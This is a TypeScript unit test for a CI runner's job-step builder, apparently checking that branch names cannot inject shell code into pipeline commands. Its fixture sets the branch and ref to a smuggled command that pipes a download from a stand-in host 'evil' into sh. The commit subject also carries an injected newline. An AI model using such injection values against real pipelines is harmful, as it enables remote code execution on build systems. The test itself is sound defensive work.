import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { RunPlan } from '@airlock/common/wire/run-plan';
import type { RunFacts } from '@airlock/common/wire/runner-protocol';
import { jobSteps } from './job-steps.ts';

const run: RunFacts = {
  number: 7,
  repository: 'shop/web',
  repositoryUrl: 'https://git.example/shop/web.git',
  ref: 'refs/heads/x";curl evil|sh;"',
  branch: 'x";curl evil|sh;"',
  commit: '0123456789abcdef0123456789abcdef01234567',
  event: 'push',
  pullRequest: null,
  subject: 'a\nsteps: []',
  authorName: 'dana',
};
const plan: RunPlan = {
  version: 1,
  steps: [
    {
      name: 'build',
      image: 'app:${CI_COMMIT_SHA:0:8}',
      commands: [
        'echo ${CI_COMMIT_SHA:0:8} ${CI_COMMIT_BRANCH} $$HOME',
        'echo ${CI_COMMIT_BRANCH:0:4}',
      ],
      environment: { TAG: 'v-${CI_PIPELINE_NUMBER}', OTHER: '${UNKNOWN}' },
    },
  ],
  artifact: null,
  release: null,
};

test('a branch name cannot write shell: only harmless slices are pasted into commands', () => {
  const [step] = jobSteps(plan, run);
  assert.equal(step?.commands[0], 'echo 01234567 ${CI_COMMIT_BRANCH} $HOME');
  assert.equal(step.commands[1], 'echo ${CI_COMMIT_BRANCH:0:4}');
  assert.equal(step.environment['CI_COMMIT_BRANCH'], run.branch);
  assert.equal(step.image, 'app:01234567');
  assert.equal(step.environment['TAG'], 'v-7');
  assert.equal(step.environment['OTHER'], '${UNKNOWN}');
});
